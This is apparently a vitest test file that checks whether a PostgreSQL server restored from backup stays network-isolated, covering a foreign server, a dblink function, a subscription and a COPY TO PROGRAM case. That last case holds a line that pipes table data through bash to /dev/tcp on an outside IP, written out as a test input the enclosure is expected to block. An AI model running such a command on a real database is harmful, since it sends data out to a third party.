import { chownSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Enclosure, isEnclosure, openEnclosure } from '../../src/core/enclosure/enclosure.ts';
import { openScratch, type Scratch } from '../../src/core/scratch/scratch.ts';
import type { Backup, Repository } from '../../src/restore/provider.ts';
import { base } from '../../src/restore/providers/base.ts';
import { serverUser } from '../../src/storage/engines/postgres/binaries.ts';
import { startEmbedded } from '../../src/storage/engines/postgres/embedded.ts';
import { startRestored } from '../../src/storage/engines/postgres/restored.ts';
import { openSession } from '../../src/storage/engines/postgres/session.ts';
import { noEnclosure } from '../core/enclosure/here.ts';

// A backup with everything in it by which a server calls others: a foreign server, functions that connect, a subscription that was on.

const never = new AbortController().signal;
const schema = [
  'CREATE EXTENSION postgres_fdw',
  'CREATE EXTENSION dblink',
  "CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '192.0.2.30', port '5432', connect_timeout '2')",
  "CREATE USER MAPPING FOR CURRENT_USER SERVER elsewhere OPTIONS (user 'a', password 'b')",
  'CREATE FOREIGN TABLE far (id integer) SERVER elsewhere',
  'CREATE TABLE near AS SELECT generate_series(1, 10) AS id',
  `CREATE FUNCTION call() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN dblink_connect('c', 'host=mail.invalid connect_timeout=2'); END $$`,
  `CREATE SUBSCRIPTION fed CONNECTION 'host=192.0.2.31 connect_timeout=2' PUBLICATION p WITH (connect = false, slot_name = 'fed')`,
  'ALTER SUBSCRIPTION fed ENABLE',
];

describe.skipIf(noEnclosure !== undefined)('a restored server', () => {
  let scratch: Scratch;
  let repository: Repository;
  let backup: Backup;
  beforeAll(async () => {
    scratch = await openScratch(`isolation${process.pid}`);
    const at = join(scratch.folder, 'repository');
    const wal = join(at, 'wal');
    mkdirSync(wal, { recursive: true });
    const user = await serverUser();
    if (user) chownSync(wal, user.uid, user.gid);
    repository = base.open({ repository: at }, { root: '/', env: {} });
    await using own = await openScratch(`isolationsource${process.pid}`);
    await using server = await startEmbedded(own, never, {
      inMemory: true,
      // The source calls nobody either.
      settings: { wal_level: 'logical', archive_mode: 'on', max_logical_replication_workers: '0', archive_command: `cp %p ${wal}/%f` },
    });
    await server.createDatabase('shop');
    await using session = await openSession(server.url('shop'));
    for (const statement of schema) await session.query(statement);
    backup = (await repository.take?.({ session, url: server.url('shop'), database: 'shop' }, never)) as Backup;
  });
  afterAll(async () => {
    await scratch[Symbol.asyncDispose]();
  });

  const cases: readonly { readonly name: string; readonly sql: readonly string[]; readonly tried: readonly string[] }[] = [
    { name: 'that nobody has call anybody tries nothing, and resumes no subscription', sql: ['SELECT * FROM near'], tried: [] },
    { name: 'does not reach a foreign server', sql: ['SELECT * FROM far'], tried: ['192.0.2.30:5432'] },
    { name: 'does not reach what a function calls', sql: ['SELECT call()'], tried: ['mail.invalid'] },
    {
      name: 'lets a program that it runs reach nothing',
      sql: ['COPY near TO PROGRAM \'bash -c "cat > /dev/tcp/192.0.2.32/25"\''],
      tried: ['192.0.2.32:25'],
    },
  ];
  it.each(cases)('$name', async ({ sql, tried }) => {
    await using own = await openScratch(`isolationcopy${Math.random().toString(16).slice(2, 8)}`);
    const folder = join(await own.inMemory(), 'copy');
    mkdirSync(folder, { mode: 0o711 });
    const restored = await repository.restore(
      backup,
      { scratch: own, folder, database: async () => Promise.reject(new Error('none')) },
      never,
    );
    if (restored.kind !== 'cluster') throw new Error('it is no cluster');
    const inside = await openEnclosure(own, [], never);
    if (!isEnclosure(inside)) throw new Error(inside.why);
    const serve = async (enclosure: Enclosure): Promise<void> => {
      await using server = await startRestored(
        {
          scratch: own,
          data: restored.data,
          restoreCommand: restored.restoreCommand ?? 'false',
          to: { kind: 'latest' },
          label: 'copy',
          inside: enclosure,
        },
        never,
      );
      await using session = await openSession(server.url('shop'));
      for (const statement of sql)
        expect(
          await session.query(statement).then(
            () => 'done',
            () => 'refused',
          ),
        ).toBe(tried.length === 0 ? 'done' : 'refused');
    };
    await serve(inside);
    expect(await inside.close()).toEqual(tried);
  });
});
